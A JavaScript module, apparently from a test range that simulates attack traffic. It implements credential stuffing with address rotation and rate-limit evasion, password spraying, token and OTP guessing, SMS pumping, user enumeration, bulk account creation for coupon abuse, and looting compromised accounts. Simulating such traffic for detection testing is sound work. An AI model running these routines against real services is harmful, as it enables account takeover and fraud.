/** Attacks at the doors: leaked pairs, common passwords, tokens, codes by SMS, names, new accounts. */
import { at, isOver, leftMs, linger, pause, random, readLines } from '../node/seat.mjs';
import { Actor, urls } from './actor.mjs';

const FIRST = 'ada ben cleo dan eva finn gita hugo ines jon kim lena max nora otto pia rosa sam tess uma vic wanda yan zoe'.split(
  ' ',
);
const LAST =
  'abbott baker castro diaz fischer garcia hansen ito jensen larsen mehta novak olsen patel rossi silva tanaka weber young'.split(
    ' ',
  );
const MAIL = ['mail.example', 'post.example', 'inbox.example', 'home.example'];

/** `email:password` lines of a leak, in an order of its own. */
export function leakedPairs() {
  return random.shuffle(readLines('RANGE_LEAKED')).map(splitPair);
}

export function splitPair(line) {
  const colon = line.indexOf(':');
  return { email: line.slice(0, colon), password: line.slice(colon + 1) };
}

function drawEmail() {
  return `${random.pick(FIRST)}.${random.pick(LAST)}${random.int(1, 2500)}@${random.pick(MAIL)}`;
}

function* endless(draw) {
  for (;;) yield draw();
}

/** Tries each pair; some take a look at what they got into. */
export async function stuffing(actor) {
  await actor.arrive();
  const looksIn = random.chance(0.4);
  const door = random.chance(0.12) ? 'token' : 'login';
  await actor.each(leakedPairs(), async ({ email, password }) => {
    const body =
      door === 'token' ? { form: { grant_type: 'password', username: email, password } } : { json: { email, password } };
    const { status, data } = await actor.call('POST', at(door), { as: null, ...body });
    if (status === 200 && looksIn) await lookIn(actor, data?.token ?? data?.access_token);
  });
}

async function lookIn(actor, token) {
  const as = `Bearer ${token}`;
  await actor.get(at('me'), { as });
  if (random.chance(0.5)) await actor.get(at('orders'), { as });
}

/** The same over many addresses, one after the other at each call or few. */
export async function stuffingRotating(actor) {
  actor.jars = random.shuffle(urls).slice(0, Math.max(2, random.int(8, 20)));
  await stuffing(actor);
}

/** Three tries from each of all addresses, spread over the whole time, each address a new face on the same software. */
export async function stuffingDistributed(actor) {
  const pairs = leakedPairs();
  const spanMs = leftMs() - 12_000;
  const startMs = Date.now();
  const visits = random.shuffle(urls).map((url, i) => ({ url, atMs: startMs + spanMs * random.real(0, 1), from: i * 3 }));
  const tasks = visits.map(async ({ url, atMs, from }) => {
    await pause(atMs - Date.now());
    const face = new Actor(actor.wire, { pace: 'jitter', most: 5 });
    Object.assign(face, { jars: [url], voice: actor.voice, isHttp2: actor.isHttp2, onLimit: 'ignore', isFresh: false });
    for (let i = 0; i < 3 && !isOver(); i++) {
      const { email, password } = pairs[(from + i) % pairs.length] ?? { email: drawEmail(), password: random.hex(8) };
      await face.post(at('login'), { email, password });
    }
    actor.calls += face.calls;
    for (const [status, count] of Object.entries(face.statuses)) actor.statuses[status] = (actor.statuses[status] ?? 0) + count;
    actor.wire.close(url);
  });
  await Promise.all(tasks);
}

/** A few passwords at very many accounts, each account seldom. */
export async function spraying(actor) {
  await actor.arrive();
  const emails = [...new Set(leakedPairs().map(({ email }) => email))];
  const passwords = random.shuffle(readLines('RANGE_PASSWORDS')).slice(0, random.int(1, 5));
  const tries = passwords.flatMap((password) => emails.slice(0, random.int(60, 500)).map((email) => ({ email, password })));
  await actor.each(tries, async ({ email, password }) => {
    await actor.post(at('login'), { email, password }, { as: null });
  });
}

const TOKEN_SHAPES = {
  hex: () => `Bearer ${random.hex(40)}`,
  key: () => `Bearer pk_live_${random.hex(32)}`,
  jwt: () =>
    `Bearer eyJhbGciOiJIUzI1NiJ9.${Buffer.from(random.hex(24)).toString('base64url')}.${Buffer.from(random.hex(32)).toString('base64url')}`,
  header: () => ({ 'x-api-key': `pk_live_${random.hex(32)}` }),
};

/** Another invented token at each call, at one door or at several. */
export async function tokenGuessing(actor) {
  const shape = TOKEN_SHAPES[random.pick(Object.keys(TOKEN_SHAPES))];
  const doors = random
    .shuffle([at('me'), at('orders'), at('customers'), at('scimUsers'), at('admin')])
    .slice(0, random.int(1, 3));
  await actor.each(endless(shape), async (token) => {
    const headers = typeof token === 'string' ? { authorization: token } : token;
    await actor.get(random.pick(doors), { as: null, headers });
  });
}

function* phoneRange() {
  const prefix = random.pick(['+2217', '+96890', '+99290', '+37061', '+88016', '+4790']);
  const first = random.int(100_000, 800_000);
  const isInOrder = random.chance(0.6);
  for (let i = 0; ; i++) yield `${prefix}${isInOrder ? first + i : random.int(100_000, 999_999)}`;
}

/** Has codes sent to ranges of numbers that earn somebody money; a number may come again. */
export async function smsPumping(actor) {
  await actor.arrive();
  if (random.chance(0.2)) await actor.enter('account');
  const times = random.pick([1, 1, 2, 4]);
  await actor.each(phoneRange(), async (phone) => {
    for (let i = 0; i < times && !actor.isDone(); i++) await actor.post(at('otpSend'), { phone });
  });
}

/** Guesses the six digits that were sent, at one phone for long or at many phones a few times each. */
export async function otpGuessing(actor) {
  await actor.arrive();
  if (random.chance(0.3)) await actor.enter('account');
  const perPhone = random.pick([3, 5, 5, 20, 100]);
  const movesOn = random.chance(0.7);
  const isInOrder = random.chance(0.5);
  await actor.each(phoneRange(), async (phone) => {
    await actor.post(at('otpSend'), { phone });
    let code = random.int(0, 900_000);
    for (let i = 0; i < perPhone && !actor.isDone(); i++) {
      code = isInOrder ? code + 1 : random.int(0, 999_999);
      const { status } = await actor.post(
        at('otpVerify'),
        { phone, code: String(code).padStart(6, '0') },
        { acceptsNo: movesOn },
      );
      if (status === 429 && movesOn) break;
    }
  });
}

/** Learns which addresses have an account, from what a reset, a sign-up or a login says. */
export async function userEnumeration(actor) {
  await actor.arrive();
  const door = random.pick(['reset', 'reset', 'reset', 'signup', 'login']);
  const isFromLeak = random.chance(0.5);
  const emails = isFromLeak ? leakedPairs().map(({ email }) => email) : endless(drawEmail);
  await actor.each(emails, async (email) => {
    if (door === 'reset') await actor.post(at('reset'), { email });
    else if (door === 'login') await actor.post(at('login'), { email, password: 'Password1!' });
    else await actor.post(at('signup'), { email, password: `Aa1!${random.hex(6)}`, name: 'Test' });
  });
}

/** Opens accounts in bulk; some are used once at once. */
export async function accountCreation(actor) {
  await actor.arrive();
  const use = random.pick([null, null, null, 'login', 'coupon', 'otp']);
  await actor.each(endless(drawPerson), async (person) => {
    if (use === 'otp') await actor.post(at('otpSend'), { phone: person.phone });
    const { status } = await actor.post(at('signup'), { email: person.email, password: person.password, name: person.name });
    if (status !== 201 || use === null || use === 'otp') return;
    const { data } = await actor.post(at('login'), { email: person.email, password: person.password });
    const as = `Bearer ${data?.token}`;
    if (use === 'login') await actor.get(at('me'), { as });
    else await takeGift(actor, as);
  });
}

function drawPerson() {
  const [first, last] = [random.pick(FIRST), random.pick(LAST)];
  const email = random.pick([`${first}${last}${random.int(10, 99_999)}`, `${first}.${random.hex(6)}`, random.hex(12)]);
  return {
    email: `${email}@${random.pick(['mail.example', 'mailbox.example', 'quick.example'])}`,
    password: `${random.hex(10)}A!`,
    name: `${first} ${last}`,
    phone: `+4791${random.int(100_000, 999_999)}`,
  };
}

/** The welcome gift that only new accounts get. */
async function takeGift(actor, as) {
  const { data } = await actor.post(at('cart'), {}, { as });
  if (data?.id) await actor.post(at('coupon', data.id), { code: 'WELCOME10' }, { as });
}

/** Goes through accounts that are known to open, and takes down what each is worth. */
export async function cashingOut(actor) {
  await actor.arrive();
  await actor.each(openPairs(), async (pair) => await takeStock(actor, pair));
}

/** The pairs that open: of a leak of the range each 33rd from the 8th on. One or two that do not are among them. */
function openPairs() {
  const pairs = readLines('RANGE_LEAKED').map(splitPair);
  const open = random.shuffle(pairs.filter((_, i) => i % 33 === 7)).slice(0, random.int(5, 15));
  return random.shuffle([...open, ...pairs.slice(0, random.int(0, 2))]);
}

async function takeStock(actor, { email, password }) {
  const { data } = await actor.post(at('login'), { email, password }, { as: null });
  if (!data?.token) return;
  const as = `Bearer ${data.token}`;
  await actor.get(at('me'), { as });
  const { data: list } = await actor.get(`${at('orders')}?limit=50`, { as });
  const ids = (list?.items ?? []).map(({ id }) => id);
  for (const id of ids.slice(0, random.int(0, 6))) await actor.get(at('order', id), { as });
  for (let cards = random.int(0, 3); cards > 0; cards--) await actor.get(at('giftcard', random.hex(10).toUpperCase()), { as });
  await linger(200);
}
